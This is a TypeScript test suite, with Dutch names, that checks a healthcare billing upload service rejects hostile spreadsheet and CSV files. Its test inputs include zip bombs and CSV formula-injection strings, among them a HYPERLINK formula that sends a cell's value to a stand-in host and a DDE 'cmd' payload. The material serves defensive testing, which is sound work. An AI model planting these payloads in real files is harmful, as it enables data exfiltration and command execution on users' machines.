import { expect } from 'chai';
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { maakTestDatabase, ohwTerugkoppeling, sqlRijen, type TestDatabase } from '@plafond/db';
import { OHW_KOLOMMEN } from '@plafond/ohw';
import JSZip from 'jszip';
import { AGB, basisStamdata, toewijzing } from '../../../test/support/declaraties';
import { bouwZip, cel, SHEET_BEGIN, SHEET_EIND, xlsxDelen } from '../../../test/support/zip';
import { verwerkOhwBestand } from './index';

const MAAND = '2026-03';
const KIND = resolve('test/support/ohw-kind.ts');
const MB = 1024 * 1024;
const KOP = `<row r="1">${OHW_KOLOMMEN.map((k, i) => cel(`${String.fromCharCode(65 + i)}1`, k)).join('')}</row>`;

function* herhaal(stuk: Buffer, keer: number, begin = '', eind = ''): Generator<Buffer> {
  yield Buffer.from(begin);
  for (let i = 0; i < keer; i++) yield stuk;
  yield Buffer.from(eind);
}

function* miljoenRijen(): Generator<Buffer> {
  yield Buffer.from(SHEET_BEGIN + KOP);
  const blok: string[] = [];
  for (let r = 2; r <= 1_000_001; r++) {
    blok.push(`<row r="${r}">${cel(`A${r}`, '0479')}${cel(`B${r}`, `T${r}`)}<c r="G${r}"><v>1</v></c></row>`);
    if (blok.length === 10_000) yield Buffer.from(blok.splice(0).join(''));
  }
  yield Buffer.from(blok.join('') + SHEET_EIND);
}

const rijXml = (r: number, extra = '') =>
  `<row r="${r}">${cel(`A${r}`, '0479')}${cel(`B${r}`, 'T1')}${cel(`C${r}`, '999900006')}${cel(`D${r}`, '45')}${cel(`E${r}`, '45A03')}${cel(`F${r}`, MAAND)}<c r="G${r}"><v>1</v></c>${cel(`H${r}`, '04')}${extra}</row>`;

interface KindUitkomst { outcome: string; reden: string | null; opgeslagen: number; ms: number; maxRssMb: number }

describe('hostile OHW files: refused fast, in bounded memory, with a clear message, storing nothing', function () {
  this.timeout(300_000);
  let tdb: TestDatabase;
  let dir: string;

  before(async () => {
    tdb = await maakTestDatabase();
    await basisStamdata(tdb.dataSource);
    for (const [i, bsn] of ['999900006', '999900018', '999900031', '999900043'].entries()) await toewijzing(tdb.dataSource, `T${i + 1}`, bsn);
    dir = await mkdtemp(join(tmpdir(), 'plafond-ohw-vijandig-'));
  });
  after(async () => {
    await tdb?.drop();
    await rm(dir, { recursive: true, force: true });
  });

  const tellingen = async () => (await sqlRijen<{ n: string }>(tdb.dataSource,
    `SELECT (SELECT count(*) FROM ohw_upload) || '/' || (SELECT count(*) FROM ohw_regel) || '/' || (SELECT count(*) FROM ohw_ontvangst) AS n`))[0].n;

  /** Runs the CLI's read-check-store in a child process of its own, so its peak RSS is its own. */
  async function inKind(naam: string, inhoud: Buffer): Promise<KindUitkomst> {
    const pad = join(dir, naam);
    await writeFile(pad, inhoud);
    const voor = await tellingen();
    const { stdout } = await promisify(execFile)(process.execPath, ['--import', 'tsx', KIND, tdb.url, AGB, MAAND, pad], { maxBuffer: 16 * MB, timeout: 120_000 });
    const u = JSON.parse(stdout.trim().split('\n').pop()!) as KindUitkomst;
    expect(u.outcome, JSON.stringify(u)).to.equal('afgewezen');
    expect(u.ms, 'seconden').to.be.below(60_000);
    expect(u.maxRssMb, 'piek-RSS in MB').to.be.below(512);
    expect(await tellingen(), 'niets opgeslagen').to.equal(voor);
    process.stdout.write(`      ${naam} (${(inhoud.length / MB).toFixed(1)} MB): geweigerd in ${Math.round(u.ms)} ms, piek-RSS ${Math.round(u.maxRssMb)} MB\n`);
    return u;
  }

  it('a zip bomb: one sheet of 200 MB packed more than a thousandfold', async () => {
    const bom = await bouwZip(xlsxDelen(herhaal(Buffer.alloc(MB, ' '), 200, SHEET_BEGIN + KOP, SHEET_EIND)));
    expect(bom.length).to.be.below(MB);
    const u = await inKind('bom.xlsx', bom);
    expect(u.reden).to.match(/samengeperst \(zip-bom\?\)/);
  });

  it('a zip bomb whose central directory lies about the unpacked size', async () => {
    const bom = await bouwZip(xlsxDelen(herhaal(Buffer.alloc(MB, ' '), 200, SHEET_BEGIN + KOP, SHEET_EIND), { liegGrootte: 4000 }));
    const u = await inKind('leugen.xlsx', bom);
    expect(u.reden).to.match(/beschadigd of misleidend over zijn grootte/);
  });

  it('a sheet with a million rows', async () => {
    const u = await inKind('miljoen.xlsx', await bouwZip(xlsxDelen(miljoenRijen())));
    expect(u.reden).to.equal('het werkblad heeft meer dan 100000 rijen');
  });

  it('a 50 MB file', async () => {
    const groot = Buffer.concat([Buffer.from(`${OHW_KOLOMMEN.join(';')}\n`), Buffer.alloc(50 * MB, 'a')]);
    const u = await inKind('groot.csv', groot);
    expect(u.reden).to.match(/het bestand is 50 MB; de grens is 20 MB/);
  });

  it('a workbook with a formula: never evaluated, its cached value not trusted', async () => {
    const sheet = SHEET_BEGIN + KOP + rijXml(2, '<c r="I2"><f>G2*65</f><v>65</v></c>') + SHEET_EIND;
    const u = await inKind('formule.xlsx', await bouwZip(xlsxDelen(sheet)));
    expect(u.reden).to.match(/cel I2 bevat een formule; formules worden niet uitgevoerd/);
  });

  it('a workbook with external links', async () => {
    const extern = { naam: 'xl/externalLinks/externalLink1.xml', inhoud: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>' };
    const u = await inKind('extern.xlsx', await bouwZip(xlsxDelen(SHEET_BEGIN + KOP + rijXml(2) + SHEET_EIND, { extra: [extern] })));
    expect(u.reden).to.match(/koppelingen naar andere bestanden/);
  });

  it('a macro-enabled workbook named .xlsx, and a .xlsm', async () => {
    const vba = { naam: 'xl/vbaProject.bin', inhoud: Buffer.from('ÐÏ\u0011à macro') };
    const u = await inKind('macro.xlsx', await bouwZip(xlsxDelen(SHEET_BEGIN + KOP + rijXml(2) + SHEET_EIND, { extra: [vba], macro: true })));
    expect(u.reden).to.match(/macro/);
    const alleenType = await inKind('macro2.xlsx', await bouwZip(xlsxDelen(SHEET_BEGIN + KOP + rijXml(2) + SHEET_EIND, { macro: true })));
    expect(alleenType.reden).to.match(/werkmap met macro's \(\.xlsm\)/);
    const xlsm = await inKind('macro.xlsm', await bouwZip(xlsxDelen(SHEET_BEGIN + KOP + rijXml(2) + SHEET_EIND, { macro: true })));
    expect(xlsm.reden).to.match(/\.xlsx- of \.csv-bestand/);
  });

  it('a sheet with more columns than allowed', async () => {
    const breed = `<row r="2">${Array.from({ length: 40 }, (_, i) => `<c r="${i < 26 ? String.fromCharCode(65 + i) : `A${String.fromCharCode(65 + i - 26)}`}2"><v>1</v></c>`).join('')}</row>`;
    const u = await inKind('breed.xlsx', await bouwZip(xlsxDelen(SHEET_BEGIN + KOP + breed + SHEET_EIND)));
    expect(u.reden).to.match(/40 kolommen; de grens is 30/);
  });

  it('formula-injection text: those rows refused, and the feedback writes the text back as plain text, never as a formula', async () => {
    const voor = (await sqlRijen<{ n: number }>(tdb.dataSource, 'SELECT count(*)::int AS n FROM ohw_regel'))[0].n;
    const bsns = ['999900006', '999900018', '999900031', '999900043'];
    let n = 0;
    const rij = (toelichting: string) => ['0479', `T${++n}`, bsns[n - 1], '45', '45A03', MAAND, '1', '04', '65,00', toelichting].map((c) => `"${c.replace(/"/g, '""')}"`).join(';');
    const csv = [OHW_KOLOMMEN.join(';'), rij('=HYPERLINK("http://x.example/?"&C2;"klik")'), rij('+1+cmd|\' /C calc\'!A0'), rij('-2+3'), rij('@SUM(1;2)')].join('\n');
    const u = await verwerkOhwBestand({ agb: AGB, maand: MAAND, naam: 'injectie.csv', inhoud: Buffer.from(csv), door: 'test' }, { dataSource: tdb.dataSource });
    expect(u.ohw.opgeslagen).to.equal(0);
    expect(u.ohw.afgewezen.map((a) => [a.regel, a.kolom])).to.deep.equal([[2, 'toelichting'], [3, 'toelichting'], [4, 'toelichting'], [5, 'toelichting']]);
    expect((await sqlRijen<{ n: number }>(tdb.dataSource, 'SELECT count(*)::int AS n FROM ohw_regel'))[0].n).to.equal(voor);
    const zip = await JSZip.loadAsync((await ohwTerugkoppeling(tdb.dataSource, u.ontvangstId!))!);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).to.not.match(/<f[ >]/);
    expect(sheet).to.include('=HYPERLINK(&quot;http://x.example/?&quot;&amp;C2;&quot;klik&quot;)');
    const j2 = /<c r="J2"[^>]*>/.exec(sheet)![0];
    expect(j2).to.match(/t="(inlineStr|s|str)"/);
  });
});
